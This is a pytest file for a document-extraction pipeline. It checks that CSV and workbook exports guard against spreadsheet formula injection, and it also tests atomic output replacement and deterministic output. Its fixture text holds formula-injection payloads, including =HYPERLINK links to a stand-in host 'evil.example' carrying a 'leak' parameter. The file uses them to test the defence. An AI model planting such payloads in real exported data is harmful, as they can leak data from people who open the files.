"""The contract files: formula guard, numbers kept as numbers, atomic replacement, determinism."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from pipeline import core, export, render
from pipeline.cli import app
from pipeline.errors import PipelineError

from .conftest import FIXTURES, tree_hashes

ROOT = Path(__file__).resolve().parents[1]
RAW = ROOT / "raw"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE = """=HYPERLINK('http://evil.example/?leak=1', 'Click for the report') Area inspection

+Finds good for leadership, poor for communication with victims.

Chief Inspector of the HMCPSI, Kevin McGinty, said:

“=HYPERLINK('http://evil.example', 'Read more') is what the Area must do.”

“@SUM(A1:A9) and -2+3 are not formulas either,” said Kevin McGinty.

“-1 is a number only in a spreadsheet,” said Kevin McGinty.

Criteria Score
=SUM(1+1) Good
+Leadership Good
@Case preparation Good
Communication with victims Poor

Inspectors examined 120 files in September 2016.
"""


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.fixture(scope="module")
def hostile_out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "hostile.txt").write_text(HOSTILE, encoding="utf-8")
    out = folder / "out"
    result = CliRunner().invoke(
        app, ["extract", str(folder / "hostile.txt"), "-o", str(out), "--xlsx"]
    )
    assert result.exit_code == 0, result.output
    return out


# --- formula guard -----------------------------------------------------------------------------


@pytest.mark.parametrize("first", FORMULA_STARTS)
def test_guard_prefixes_every_formula_start(first: str) -> None:
    assert export.guard(first + "1+1") == "'" + first + "1+1"


@pytest.mark.parametrize("text", ["", "Good", "'=already", " =spaced", "“=quoted", "1+1"])
def test_guard_leaves_other_text_alone(text: str) -> None:
    assert export.guard(text) == text


def test_csv_cells_guarded_and_numbers_left_as_numbers() -> None:
    header = ["release_id", "text", "value", "ratio", "start", "flag", "none"]
    rows = [
        ["=r", "-2 files", -2, -0.5, 0, True, None],
        ["\tr", "\rcr", 3, 1.5, 7, False, None],
    ]
    parsed = list(csv.reader(io.StringIO(export._csv(header, rows), newline="")))
    assert parsed[1] == ["'=r", "'-2 files", "-2", "-0.5", "0", "true", ""]
    assert parsed[2] == ["'\tr", "'\rcr", "3", "1.5", "7", "false", ""]


CELLS = st.one_of(
    st.text(),
    st.text(alphabet=',"\n\r\t=+-@ x\u2028'),
    st.integers(),
    st.floats(allow_nan=False),
    st.none(),
    st.booleans(),
)


@given(st.lists(st.lists(CELLS, min_size=2, max_size=6), max_size=5))
def test_csv_text_reads_back_as_the_guarded_cells(rows: list[list[object]]) -> None:
    def expected(v: object) -> str:
        if v is None:
            return ""
        if isinstance(v, bool):
            return "true" if v else "false"
        return export.guard(v) if isinstance(v, str) else repr(v)

    text = export._csv(["a", "b"], rows)
    assert text.endswith("\n")
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert parsed == [["a", "b"], *([expected(v) for v in row] for row in rows)]


def test_every_csv_guards_the_hostile_release(hostile_out: Path) -> None:
    texts = []
    for name in ("releases", "sections", "scores", "quotes", "dates", "numbers", "errors"):
        for row in read_csv(hostile_out / f"{name}.csv"):
            for column, cell in row.items():
                texts.append((name, column, cell))
                if (name, column) == ("numbers", "value") and cell:
                    float(cell)  # a negative value (-2) is a number, left as one by contract
                    continue
                assert not cell.startswith(FORMULA_STARTS), (name, column, cell)
    cells = {cell for _, _, cell in texts}
    assert "'=HYPERLINK('http://evil.example/?leak=1', 'Click for the report') Area inspection" in (
        cells
    )
    assert "'=HYPERLINK('http://evil.example', 'Read more') is what the Area must do." in cells
    assert "'=SUM(1+1)" in cells and "'+Leadership" in cells and "'@Case preparation" in cells
    assert "'@SUM(A1:A9) and -2+3 are not formulas either" in cells
    assert "'-1 is a number only in a spreadsheet" in cells
    assert "'+Finds good for leadership, poor for communication with victims." in cells


def test_json_keeps_the_exact_text(hostile_out: Path) -> None:
    record = json.loads((hostile_out / "json" / "hostile.json").read_text(encoding="utf-8"))
    assert record["title"].startswith("=HYPERLINK(")
    assert record["quotes"][0]["text"].startswith("=HYPERLINK(")
    assert record["text"] == HOSTILE


def test_numeric_csv_columns_are_plain_numbers(hostile_out: Path) -> None:
    for name, columns in {
        "scores": ("score_value", "start", "end", "table"),
        "numbers": ("value", "start", "end"),
        "quotes": ("paragraphs", "start", "end"),
        "releases": ("n_sections", "n_scores", "n_quotes", "n_warnings"),
    }.items():
        rows = read_csv(hostile_out / f"{name}.csv")
        assert rows
        for row in rows:
            for column in columns:
                float(row[column])  # a number, never a guarded string


def test_workbook_cells_are_guarded_and_numbers_stay_numbers(hostile_out: Path) -> None:
    from openpyxl import load_workbook

    book = load_workbook(hostile_out / "releases.xlsx")
    assert set(book.sheetnames) >= {"releases", "sections", "scores", "quotes", "errors"}
    strings = []
    for sheet in book.worksheets:
        header = [c.value for c in sheet[1]]
        for row in sheet.iter_rows(min_row=2):
            for column, cell in zip(header, row, strict=True):
                assert cell.data_type != "f", (sheet.title, column, cell.value)
                if isinstance(cell.value, str):
                    strings.append(cell.value)
                    assert not cell.value.startswith(FORMULA_STARTS), (sheet.title, cell.value)
                if column in {"start", "end", "score_value", "n_scores"}:
                    assert isinstance(cell.value, int), (sheet.title, column, cell.value)
    assert any(s.startswith("'=HYPERLINK(") for s in strings)


def test_workbook_strips_control_characters_before_guarding() -> None:
    from pipeline.workbook import xl_cell

    assert xl_cell("\x01=cmd") == "'=cmd"
    assert xl_cell("a\x00b") == "ab"
    assert xl_cell(5) == 5 and xl_cell(None) is None


# --- atomic replacement --------------------------------------------------------------------------


@pytest.fixture(scope="module")
def seed_report() -> core.RunReport:
    return core.run([RAW])


def write(out: Path, report: core.RunReport) -> None:
    export.write_outputs(out, report.releases, [], report.manifest)


@pytest.fixture
def out(tmp_path: Path, seed_report: core.RunReport) -> Path:
    """An earlier run's output: the seed's, written at ``tmp_path / "out"``."""
    folder = tmp_path / "out"
    write(folder, seed_report)
    return folder


def dead_pid() -> int:
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def test_the_workbook_has_fixed_dates_and_the_same_bytes_on_every_run(
    tmp_path: Path, seed_report: core.RunReport
) -> None:
    books = []
    for name in ("a", "b"):
        out = tmp_path / name
        export.write_outputs(out, seed_report.releases, [], seed_report.manifest, xlsx=True)
        books.append((out / "releases.xlsx").read_bytes())
        with zipfile.ZipFile(out / "releases.xlsx") as book:
            assert {info.date_time for info in book.infolist()} == {(1980, 1, 1, 0, 0, 0)}
            core_xml = book.read("docProps/core.xml").decode("utf-8")
        assert core_xml.count(">1980-01-01T00:00:00Z<") == 2  # created and modified
        sheets = openpyxl.load_workbook(out / "releases.xlsx").sheetnames
        assert sheets == [
            "contents",
            "releases",
            "sections",
            "scores",
            "quotes",
            "dates",
            "numbers",
            "errors",
            "scores_wide",
            "scores_wide_value",
        ]
    assert books[0] == books[1]


def test_a_failure_while_writing_leaves_the_previous_output(
    tmp_path: Path, out: Path, seed_report: core.RunReport, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = tree_hashes(out)

    def fail(*args: object, **kwargs: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export, "_workbook", fail)
    with pytest.raises(OSError, match="No space"):
        export.write_outputs(out, seed_report.releases, [], seed_report.manifest, xlsx=True)
    assert tree_hashes(out) == before
    assert [p.name for p in tmp_path.iterdir()] == ["out"]  # no temporary folder left


def test_replacement_without_renameat2(
    tmp_path: Path, out: Path, seed_report: core.RunReport, monkeypatch: pytest.MonkeyPatch
) -> None:
    (out / "stale-extra.csv").write_text("x", encoding="utf-8")
    monkeypatch.setattr(export, "_exchange", lambda a, b: False)
    write(out, seed_report)
    assert not (out / "stale-extra.csv").exists()
    assert (out / "manifest.json").is_file()
    assert [p.name for p in tmp_path.iterdir()] == ["out"]


def test_recover_restores_an_output_moved_aside_by_a_crash(tmp_path: Path, out: Path) -> None:
    before = tree_hashes(out)
    out.rename(tmp_path / ".out.old")  # the crash came between the fallback's two renames
    export.recover(out)
    assert tree_hashes(out) == before
    assert not (tmp_path / ".out.old").exists()


def test_recover_drops_the_old_copy_once_the_new_output_is_in_place(
    tmp_path: Path, out: Path, seed_report: core.RunReport
) -> None:
    write(tmp_path / ".out.old", seed_report)
    export.recover(out)
    assert not (tmp_path / ".out.old").exists() and (out / "manifest.json").is_file()


def test_stale_temporary_folders_of_dead_runs_are_removed_live_ones_kept(
    tmp_path: Path, seed_report: core.RunReport
) -> None:
    out = tmp_path / "out"
    dead = tmp_path / f".out.tmp-{dead_pid()}-abc"
    old_style = tmp_path / f".out.tmp-{dead_pid()}"
    live = tmp_path / f".out.tmp-{os.getpid()}-xyz"
    other = tmp_path / ".other.tmp-1"
    for folder in (dead, old_style, live, other):
        (folder / "json").mkdir(parents=True)
    write(out, seed_report)
    assert not dead.exists() and not old_style.exists()
    assert live.exists() and other.exists()


def test_out_through_a_symlink_replaces_the_target(
    tmp_path: Path, seed_report: core.RunReport
) -> None:
    target = tmp_path / "real"
    write(target, seed_report)
    link = tmp_path / "link"
    link.symlink_to(target)
    write(link, seed_report)
    assert link.is_symlink() and (target / "manifest.json").is_file()


@pytest.mark.parametrize("rid", ["../escape", "a/b", "..", ".", "", "x y"])
def test_unsafe_release_ids_are_refused(
    tmp_path: Path, seed_report: core.RunReport, rid: str
) -> None:
    import dataclasses

    bad = dataclasses.replace(seed_report.releases[0], release_id=rid)
    with pytest.raises(PipelineError):
        export.write_outputs(tmp_path / "out", [bad], [], {})
    assert not (tmp_path / "out").exists() and not (tmp_path / "escape.json").exists()


def test_duplicate_release_ids_are_refused(tmp_path: Path, seed_report: core.RunReport) -> None:
    import dataclasses

    one = seed_report.releases[0]
    two = dataclasses.replace(one, release_id=one.release_id.upper())
    with pytest.raises(PipelineError, match="not unique"):
        export.write_outputs(tmp_path / "out", [one, two], [], {})


# --- streaming: one release at a time ----------------------------------------------------------


def test_the_writer_streams_and_out_changes_only_at_finish(
    tmp_path: Path, out: Path, seed_report: core.RunReport
) -> None:
    before = tree_hashes(out)
    with export.OutputWriter(out) as writer:
        writer.add(seed_report.releases[0])
        rid = seed_report.releases[0].release_id
        assert (writer.tmp / "json" / f"{rid}.json").is_file()  # written on add, not kept
        assert tree_hashes(out) == before
        writer.finish([], {"tool": "pipeline"})
    assert json.loads((out / "manifest.json").read_text("utf-8"))["row_counts"]["releases"] == 1
    assert [p.name for p in tmp_path.iterdir()] == ["out"]


def test_leaving_the_writer_without_finish_keeps_the_previous_output(
    tmp_path: Path, out: Path, seed_report: core.RunReport
) -> None:
    before = tree_hashes(out)
    with pytest.raises(KeyboardInterrupt), export.OutputWriter(out) as writer:
        writer.add(seed_report.releases[0])
        raise KeyboardInterrupt
    assert tree_hashes(out) == before
    assert [p.name for p in tmp_path.iterdir()] == ["out"]


def test_json_files_are_the_same_with_or_without_folder_descriptors(
    tmp_path: Path, seed_report: core.RunReport, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(tmp_path / "fd", seed_report)
    monkeypatch.setattr(export, "_DIR_FD", False)  # as on a system without dir_fd
    write(tmp_path / "path", seed_report)
    assert tree_hashes(tmp_path / "fd") == tree_hashes(tmp_path / "path")
    for out in ("fd", "path"):
        (one,) = (tmp_path / out / "json").iterdir()
        assert one.stat().st_mode == (tmp_path / out / "releases.jsonl").stat().st_mode


def test_a_run_with_a_sink_gives_the_same_files_and_keeps_no_records(
    tmp_path: Path, seed_report: core.RunReport
) -> None:
    inputs = [RAW, FIXTURES]
    kept = core.run(inputs)
    export.write_outputs(tmp_path / "batch", kept.releases, [], {})
    with export.OutputWriter(tmp_path / "stream") as writer:
        streamed = core.run(inputs, sink=writer.add)
        writer.finish([], {})
    assert streamed.releases == [] and streamed.extracted == len(kept.releases) > 20
    assert streamed.with_warnings == sum(1 for r in kept.releases if r.warnings)
    assert tree_hashes(tmp_path / "stream") == tree_hashes(tmp_path / "batch")


# --- determinism ---------------------------------------------------------------------------------


def test_two_runs_give_byte_identical_files_apart_from_manifest_times(tmp_path: Path) -> None:
    runner = CliRunner()
    outs = [tmp_path / "a", tmp_path / "b"]
    for out in outs:
        result = runner.invoke(app, ["extract", str(RAW), str(FIXTURES), "-o", str(out), "-q"])
        assert result.exit_code == 0, result.output
    first, second = (tree_hashes(out) for out in outs)
    assert first.keys() == second.keys()
    assert len(first) > 10
    differ = [name for name in first if first[name] != second[name]]
    assert differ in ([], ["manifest.json"])
    manifests = [json.loads((out / "manifest.json").read_text("utf-8")) for out in outs]
    for m in manifests:
        del m["started_at"], m["finished_at"]
    assert manifests[0] == manifests[1]


def test_cells_with_line_breaks_stay_in_their_row(tmp_path: Path) -> None:
    name = tmp_path / "odd\r\nname\r.txt"
    name.write_text("A title\n\nSome words.\n", encoding="utf-8")
    out = tmp_path / "out"
    result = CliRunner().invoke(app, ["extract", str(name), "=missing\r.txt", "-o", str(out)])
    assert result.exit_code == 1
    assert len(result.stderr.splitlines()) == 1  # the name is shown escaped, on one line
    (row,) = read_csv(out / "releases.csv")
    assert row["source_path"] == name.as_posix()
    (error,) = read_csv(out / "errors.csv")
    assert error["path"] == "'=missing\r.txt" and error["code"] == "missing"
    assert (out / "errors.csv").read_bytes().count(b"\n") == 2


def test_a_release_with_very_many_items_is_written_the_same(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Beyond _DICTS_UP_TO items orjson is handed the dataclasses themselves (no dict per item):
    # the bytes must be those of the plain object, for every release, and every field of
    # Release must be in it.

    from pipeline.model import Release
    from pipeline.render import release_dict

    releases = core.run([RAW, FIXTURES]).releases
    usual = [export.render_release(r) for r in releases]
    monkeypatch.setattr(render, "_DICTS_UP_TO", 0)
    for release, rendered in zip(releases, usual, strict=True):
        plain = release_dict(release)
        assert orjson.dumps(render.release_json(release)) == orjson.dumps(plain)
        assert export.render_release(release) == rendered
        # entities only with --model
        assert set(plain) == {f.name for f in dataclasses.fields(Release)} - {"entities"}


def test_the_plain_object_has_every_field_in_order() -> None:
    # release_dict writes each record's keys out by hand: they must be the class's fields, in
    # its order, with its values, and the release's keys those of RELEASE_KEYS (entities
    # only when set).
    from pipeline.model import Entity
    from pipeline.render import RELEASE_KEYS, field_names, release_dict

    def same(record: object, plain: dict[str, object]) -> None:
        names = field_names(type(record))
        assert tuple(plain) == names
        assert list(plain.values()) == [getattr(record, name) for name in names]

    releases = core.run([RAW, FIXTURES]).releases
    named = dataclasses.replace(releases[0], entities=(Entity("PERSON", "Ann", 0, 3),))
    kinds = set()
    for release in [*releases, named]:
        plain = release_dict(release)
        same(release.source, plain["source"])
        for key in ("sections", "scores", "quotes", "dates", "numbers", "entities"):
            for record, item in zip(getattr(release, key) or (), plain.get(key, ()), strict=True):
                same(record, item)
                kinds.add(type(record).__name__)
    assert kinds == {"Section", "Score", "Quote", "DateMention", "NumberMention", "Entity"}
    assert tuple(release_dict(releases[0])) == tuple(k for k in RELEASE_KEYS if k != "entities")
    assert tuple(release_dict(named)) == RELEASE_KEYS
    assert orjson.dumps(release_dict(named)) == orjson.dumps(render.release_json(named))


@pytest.mark.parametrize(
    "entry",
    [
        {"path": "a/b.txt", "sha256": "0" * 64, "bytes": 12, "status": "ok", "warnings": 0},
        {"path": 'odd "name"\\\t\u00e9\u2019.txt', "status": "error", "message": "is empty"},
        {"path": "bad\udcff.txt", "flag": True, "other": False, "none": None},
        {"path": "x", "nested": {"a": [1, 2]}, "ratio": 0.5},
        {},
    ],
)
def test_a_manifest_entry_is_written_as_json_writes_it(entry: dict[str, object]) -> None:
    expected = json.dumps(entry, ensure_ascii=False, indent=2).replace("\n", "\n    ")
    assert export.entry_text(entry) == expected


@pytest.mark.parametrize("jobs", [1, 2])
def test_paths_refused_before_reading_take_their_place_among_the_manifest_entries(
    tmp_path: Path, jobs: int
) -> None:
    # The refusals found before any input was read (missing paths, one given twice) stay in
    # the report's manifest; the writer merges them in path order with the entries it was
    # handed (by the run, or with --jobs by each chunk), these first among equals.
    from .test_core import TEXT

    folder = tmp_path / "in"
    folder.mkdir()
    for name in ("a.txt", "c.txt", "e.txt"):
        (folder / name).write_text(TEXT, encoding="utf-8")
    paths = [folder / "z.txt", folder, folder / "b.txt", folder / "d.txt", folder / "b.txt"]
    report = core.extract_to(paths, tmp_path / "out", jobs=jobs)
    text = (tmp_path / "out" / "manifest.json").read_text("utf-8")
    assert text == json.dumps(json.loads(text), ensure_ascii=False, indent=2) + "\n"
    written = json.loads(text)["inputs"]
    expected = core.run(paths).manifest["inputs"]  # every entry kept, then sorted
    assert [e["path"][-5:] for e in written] == [
        "a.txt", "b.txt", "b.txt", "c.txt", "d.txt", "e.txt", "z.txt"
    ]  # fmt: skip
    assert written == expected
    found = report.manifest["inputs"]
    assert [(e["path"][-5:], e["status"]) for e in found] == [
        ("b.txt", "error"), ("b.txt", "error"), ("d.txt", "error"), ("z.txt", "error")
    ]  # fmt: skip


def test_manifest_entries_and_its_own_inputs_are_merged_in_path_order(tmp_path: Path) -> None:
    # A writer's caller may give the manifest inputs of its own besides add_entry's.
    with export.OutputWriter(tmp_path / "out") as writer:
        for path in ("b", "d"):
            writer.add_entry({"path": path, "status": "ok"})
        own = [{"path": p, "status": "error"} for p in ("a", "b", "e")]
        writer.finish([], {"tool": "pipeline", "inputs": own, "max_bytes": 1})
    manifest = json.loads((tmp_path / "out" / "manifest.json").read_text("utf-8"))
    assert [(e["path"], e["status"]) for e in manifest["inputs"]] == [
        ("a", "error"), ("b", "error"), ("b", "ok"), ("d", "ok"), ("e", "error")
    ]  # fmt: skip
    assert list(manifest) == ["tool", "inputs", "max_bytes", "row_counts"]
